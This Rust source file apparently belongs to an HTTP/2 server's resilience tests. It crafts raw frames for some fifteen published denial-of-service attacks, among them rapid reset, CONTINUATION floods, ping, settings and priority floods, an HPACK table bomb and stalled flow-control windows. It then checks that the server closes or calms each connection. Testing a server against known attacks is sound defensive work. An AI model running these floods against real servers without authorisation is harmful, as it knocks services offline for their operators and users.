//! Clients that keep to the letter of the protocol and make a server work, or hold what it has.

use std::time::{Duration, Instant};

use super::client::{Bytes, Frames, Raw, Target};
use super::frames::{
    CONTINUATION, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PING, PRIORITY, RST_STREAM, WHOLE,
    data, frame, ping, reset, setting, settings, window,
};
use super::hpack::{block, indexing, integer, literal};

/// How an attack must end.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum End {
    /// GOAWAY `ENHANCE_YOUR_CALM`, then closed.
    Calm,
    /// Closed with an error.
    Error,
    /// Closed, or the streams reset, when the limit for sending is over.
    Limit,
}

pub(crate) struct Attack {
    pub(crate) name: &'static str,
    pub(crate) end: End,
    /// Settings of the client.
    settings: Vec<u8>,
    /// What is sent once.
    opening: Vec<u8>,
    /// What is sent again and again; the argument counts.
    again: fn(u32) -> Vec<u8>,
    /// Whether the client reads.
    reads: bool,
}

/// Streams, or frames, of one round.
const ROUND: u32 = 50;
const INITIAL_WINDOW: u16 = 4;

fn head(path: &[u8]) -> Vec<u8> {
    block(&[
        (b":method", b"GET"),
        (b":scheme", b"http"),
        (b":path", path),
        (b":authority", b"t.test"),
    ])
}

/// The streams of a round.
fn streams(round: u32) -> impl Iterator<Item = u32> {
    (0..ROUND).map(move |at| 1 + 2 * (round * ROUND + at))
}

fn repeated(frame: &[u8]) -> Vec<u8> {
    frame.repeat(ROUND as usize)
}

fn large(count: u32) -> Vec<u8> {
    (0..count)
        .flat_map(|at| frame(HEADERS, WHOLE, 1 + 2 * at, head(b"/large")))
        .collect()
}

/// The attacks, the first published of each kind.
pub(crate) fn all() -> Vec<Attack> {
    let plain = |name, again: fn(u32) -> Vec<u8>| Attack {
        name,
        end: End::Calm,
        settings: Vec::new(),
        opening: Vec::new(),
        again,
        reads: true,
    };
    vec![
        plain("rapid reset (CVE-2023-44487)", |round| {
            streams(round)
                .flat_map(|stream| {
                    [
                        frame(HEADERS, WHOLE, stream, head(b"/attacked")),
                        reset(stream, 8),
                    ]
                    .concat()
                })
                .collect()
        }),
        plain("streams that we reset (CVE-2025-8671)", |round| {
            streams(round)
                .flat_map(|stream| {
                    [
                        frame(HEADERS, END_HEADERS, stream, head(b"/attacked")),
                        window(stream, 0x7fff_ffff),
                    ]
                    .concat()
                })
                .collect()
        }),
        plain("malformed requests (CVE-2019-9514)", |round| {
            streams(round)
                .flat_map(|stream| frame(HEADERS, WHOLE, stream, block(&[(b":method", b"GET")])))
                .collect()
        }),
        Attack {
            opening: frame(HEADERS, END_STREAM, 1, head(b"/attacked")),
            ..plain("header block without end (CVE-2024-27316)", |_| {
                repeated(&frame(CONTINUATION, 0, 1, literal(b"x-more", b"1")))
            })
        },
        plain("pings (CVE-2019-9512)", |_| repeated(&ping())),
        plain("settings (CVE-2019-9515)", |_| repeated(&settings(&[]))),
        plain("priorities (CVE-2019-9513)", |round| {
            streams(round)
                .flat_map(|stream| {
                    frame(
                        PRIORITY,
                        0,
                        stream,
                        [&(stream ^ 2).to_be_bytes()[..], &[9]].concat(),
                    )
                })
                .collect()
        }),
        Attack {
            opening: frame(HEADERS, END_HEADERS, 1, head(b"/attacked")),
            ..plain("empty data (CVE-2019-9518)", |_| repeated(&data(0, 1, 0)))
        },
        Attack {
            opening: large(1),
            ..plain("windows updated in vain (CVE-2019-9517)", |_| {
                repeated(&window(0, 1))
            })
        },
        Attack {
            settings: setting(INITIAL_WINDOW, 1),
            opening: large(100),
            ..plain("windows of a byte (CVE-2019-9511)", |_| {
                (0..100).flat_map(|at| window(1 + 2 * at, 1)).collect()
            })
        },
        plain("frames that nobody knows", |_| {
            repeated(&frame(0xfe, 0, 0, []))
        }),
        Attack {
            end: End::Error,
            ..plain("fields without name (CVE-2019-9516)", |round| {
                streams(round)
                    .flat_map(|stream| {
                        frame(
                            HEADERS,
                            WHOLE,
                            stream,
                            [head(b"/attacked"), literal(b"", b"")].concat(),
                        )
                    })
                    .collect()
            })
        },
        plain("large field of the table, again and again", |round| {
            let bomb = [
                head(b"/attacked"),
                indexing(b"x-bomb", &[b'a'; 4_000]),
                integer(0x80, 7, 62).repeat(12_000),
            ];
            frame(HEADERS, WHOLE, 1 + 2 * round, bomb.concat())
        }),
        Attack {
            end: End::Limit,
            settings: setting(INITIAL_WINDOW, 0),
            opening: large(100),
            ..plain("windows that stay closed", |_| Vec::new())
        },
        Attack {
            end: End::Limit,
            settings: setting(INITIAL_WINDOW, 0x7fff_ffff),
            opening: [window(0, 0x7fff_0000 - 65_535), large(100)].concat(),
            reads: false,
            ..plain("answers that nobody reads", |_| Vec::new())
        },
    ]
}

/// How one connection of an attack went.
#[derive(Debug)]
pub(crate) struct Outcome {
    /// Until it was closed, or all that it held was taken away.
    pub(crate) lasted: Duration,
    /// The code of the last GOAWAY.
    pub(crate) code: Option<u32>,
}

impl Attack {
    /// Attacks over one connection until that is over.
    pub(crate) async fn run(&self, target: &Target) -> Outcome {
        let Raw { frames, mut bytes } = Raw::introduced_with(target, &self.settings).await;
        let began = Instant::now();
        let mut code = None;
        let asked = streams_of(&self.opening);
        let sending = self.send(&mut bytes);
        if self.reads {
            let reading = read(frames, &mut code, asked);
            tokio::pin!(sending);
            tokio::pin!(reading);
            tokio::select! {
                () = &mut reading => {}
                () = &mut sending => reading.await,
            }
        } else {
            sending.await;
            drop(frames);
        }
        Outcome {
            lasted: began.elapsed(),
            code,
        }
    }

    /// Attacks again and again for so long, once a second at most.
    pub(crate) async fn keep_on(&self, target: &Target, time: Duration) -> Vec<Outcome> {
        let end = Instant::now() + time;
        let mut pause = tokio::time::interval(Duration::from_secs(1));
        let mut outcomes = Vec::new();
        while Instant::now() < end {
            pause.tick().await;
            let left = end.saturating_duration_since(Instant::now());
            if let Ok(outcome) = tokio::time::timeout(left, self.run(target)).await {
                outcomes.push(outcome);
            }
        }
        outcomes
    }

    /// Sends until the server takes nothing any more.
    async fn send(&self, bytes: &mut Bytes) {
        if bytes.send(&self.opening).await.is_err() {
            return;
        }
        let mut tick = tokio::time::interval(Duration::from_millis(100));
        for round in 0.. {
            let mut more = (self.again)(round);
            if more.is_empty() {
                // Only to see whether the connection is still there.
                tick.tick().await;
                more = frame(PING, 1, 0, [0; 8]);
                if self.reads {
                    continue;
                }
            }
            if bytes.send(&more).await.is_err() {
                return;
            }
        }
    }

    /// Whether it ended as it must.
    pub(crate) fn ended_well(&self, outcome: &Outcome) -> bool {
        match self.end {
            End::Calm => outcome.code == Some(11),
            End::Error => outcome.code != Some(0),
            End::Limit => true,
        }
    }
}

/// Requests among frames.
fn streams_of(mut frames: &[u8]) -> usize {
    let mut count = 0;
    while let Some(head) = frames.get(..9) {
        count += usize::from(head[3] == HEADERS);
        let length = u32::from_be_bytes([0, head[0], head[1], head[2]]) as usize;
        frames = &frames[9 + length..];
    }
    count
}

/// Reads until the connection is over, or all of so many streams were reset.
async fn read(mut frames: Frames, code: &mut Option<u32>, streams: usize) {
    let mut resets = 0;
    while let Some(frame) = frames.next().await {
        match frame.kind {
            GOAWAY => *code = Some(frame.code()),
            RST_STREAM => resets += 1,
            _ => {}
        }
        if streams > 1 && resets == streams {
            return;
        }
    }
}
